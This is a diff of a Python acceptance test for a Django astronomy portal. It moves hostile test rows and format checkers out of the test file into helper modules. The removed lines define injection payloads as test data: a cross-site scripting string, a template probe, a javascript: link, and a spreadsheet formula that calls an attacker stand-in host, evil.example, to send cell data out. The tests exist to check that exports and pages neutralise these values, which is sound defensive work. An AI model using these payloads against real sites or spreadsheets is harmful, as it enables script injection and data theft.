@@ -3,74 +3,38 @@
 Each answer is read as its reader would: pages by a parser of HTML, files by the library of their format.
 """
 
-import ast
-import csv
-import json
-import re
 from collections.abc import Callable
-from html.parser import HTMLParser
-from io import BytesIO, StringIO
-from typing import Any, NoReturn
+from typing import Any
 from urllib.parse import quote, urlencode
 
-import nbformat
-import numpy as np
-import pyarrow as pa
-import pyarrow.parquet as pq
 import pytest
-from astropy.io import fits, votable
-from astropy.table import Table
 from django.contrib.auth.models import User
 from django.test import Client
 from django.utils import timezone
 
 from mastportal.desk.models import SavedSearch
 from mastportal.desk.programmes import programme_of
-from mastportal.mast.arrow import page_table
 from mastportal.mast.fields import fields_of
 from mastportal.search import keep, results
 from mastportal.search.models import ResultSet, Search
 from mastportal.work import Phase
+from tests.acceptance.hostile_rows import EVIL, FORMULA, ROWS, SQUARE, rows
+from tests.acceptance.readers import (
+    anything,
+    ecsv,
+    fits_table,
+    notebook,
+    page,
+    parquet,
+    points,
+    program,
+    spreadsheet,
+    strict_json,
+    xml,
+)
 from tests.people import client_of
 
-EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{ 7|add:7 }}'''\"\"\"\n]]>*/-->"
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
-LONG = "M" * 100_000
-CONTROL = "\x00\x07\x1b]0;x\x07\u202e\ufffe\r\n-1+1"
-LINK = "javascript:alert(1)"
-TEXTS = (EVIL, FORMULA, LONG, CONTROL, LINK, "", None)
-NUMBERS = (np.nan, np.inf, -np.inf, 1e308, -1e308, -0.0, None)
-WHOLE = (2**62, -1, None, 0, 3, -999, 1)
-SQUARE = "10 20 10 21 11 21 11 20"
-REGIONS = (
-    EVIL,
-    f"POLYGON {SQUARE}",  # the wrong way round: all the sky but a square, were it believed
-    "POLYGON " + " ".join(f"{n / 100} {n % 7}" for n in range(9_000)),  # crosses itself, a hundred kilobytes
-    "POLYGON NAN NAN INFINITY -INFINITY 1E999 0",
-    "CIRCLE 10 20 720",
-    FORMULA,
-    None,
-)
-ROWS = len(TEXTS)
 HTMX = {"HTTP_HX_REQUEST": "true"}
-FETCHING = ("src", "href", "action", "hx-get", "hx-post", "formaction", "data")
-PAGE_MOST = 1_500_000
-
-
-def rows() -> pa.Table:
-    """Every text, number and outline in every column that could hold it."""
-    fields = fields_of("observations")
-    texts = [{field.name: text for field in fields if field.type == "string"} for text in TEXTS]
-    table = page_table(
-        {"data": [row | {"s_region": region} for row, region in zip(texts, REGIONS, strict=True)]}, fields
-    )
-    columns: dict[str, Any] = {"s_ra": (*NUMBERS[:2], 10, 359.999999, -10, 720, None)}
-    columns |= {"s_dec": (*NUMBERS[:2], 20, 90, -90, 91, None), "t_max": (60_000, *NUMBERS[1:])}
-    for place, field in enumerate(table.schema):
-        if not pa.types.is_string(field.type):
-            values = columns.get(field.name, NUMBERS if pa.types.is_floating(field.type) else WHOLE)
-            table = table.set_column(place, field, pa.array(values, from_pandas=False).cast(field.type))
-    return table
 
 
 @pytest.fixture
@@ -88,93 +52,6 @@ def search(alice: User, sandbox: object) -> Search:
     Search.objects.filter(pk=asked.search.pk).update(current=asked.result, words=f"Rows of {EVIL}")
     SavedSearch.objects.create(name=EVIL[:100], note=EVIL, owner=alice, search=asked.search)
     return Search.objects.get(pk=asked.search.pk)
-
-
-class Reader(HTMLParser):
-    """Complains of everything in a page that would run, be fetched from elsewhere, or lead to a script."""
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        told = {name: value or "" for name, value in attrs}
-        if tag == "script":
-            assert told.get("type") == "application/json" or told.get("src", "").startswith("/static/"), told
-        assert not [name for name in told if name.startswith("on") or name == "style"], told
-        addresses = {name: told[name].strip().casefold() for name in FETCHING if name in told}
-        assert not [each for each in addresses.values() if each.startswith(("javascript:", "data:text"))], (
-            told
-        )
-        if tag in ("img", "iframe", "object", "embed"):
-            assert addresses.get("src", "/").startswith("/"), told
-
-    def handle_data(self, data: str) -> None:
-        assert "14'''" not in data, "a template ran in a value"
-
-
-def page(body: bytes) -> None:
-    text = body.decode()
-    assert len(text) < PAGE_MOST, f"{len(text)} characters of page"
-    reader = Reader()
-    reader.feed(text)
-    reader.close()
-    assert "Traceback" not in text
-
-
-def no_number(name: str) -> NoReturn:
-    raise AssertionError(f"{name} is not JSON")
-
-
-def strict_json(body: bytes) -> None:
-    json.loads(body, parse_constant=no_number)
-
-
-def spreadsheet(body: bytes) -> None:
-    lines = list(csv.reader(StringIO(body.decode(), newline="")))
-    assert len(lines) == 1 + ROWS
-    cells = [cell for line in lines for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
-    assert all(isinstance(float(cell), float) for cell in cells)
-
-
-def points(body: bytes) -> None:
-    length = int.from_bytes(body[:4], "little")
-    header = json.loads(body[4 : 4 + length], parse_constant=no_number)
-    for each in header["arrays"]:
-        found = np.frombuffer(body, f"<{each['type']}", each["length"], 4 + length + each["offset"])
-        assert np.isfinite(found).all()
-
-
-def xml(body: bytes) -> None:
-    assert votable.parse_single_table(BytesIO(body)).nrows == ROWS
-
-
-def fits_table(body: bytes) -> None:
-    with fits.open(BytesIO(body)) as hdus:
-        assert len(hdus[1].data) == ROWS
-
-
-def ecsv(body: bytes) -> None:
-    assert len(Table.read(BytesIO(body), format="ascii.ecsv")) == ROWS
-
-
-def parquet(body: bytes) -> None:
-    assert pq.read_table(BytesIO(body)).num_rows == ROWS
-
-
-def program(body: bytes) -> None:
-    """Nothing but calls of ours: no value of a row has become a statement."""
-    assert "alert" not in [each.id for each in ast.walk(ast.parse(body)) if isinstance(each, ast.Name)]
-
-
-def notebook(body: bytes) -> None:
-    book = nbformat.reads(body.decode(), as_version=4)
-    nbformat.validate(book)
-    for cell in book.cells:
-        if cell.cell_type == "code":
-            program(cell.source.encode())
-        else:
-            assert not re.search(r"(?<!\\)<(?!http)", cell.source), "Markdown takes it for HTML"
-
-
-def anything(body: bytes) -> None:
-    assert b"Traceback" not in body
 
 
 RESULT, API = "/results/{search}/", "/api/v1/searches/{search}/"
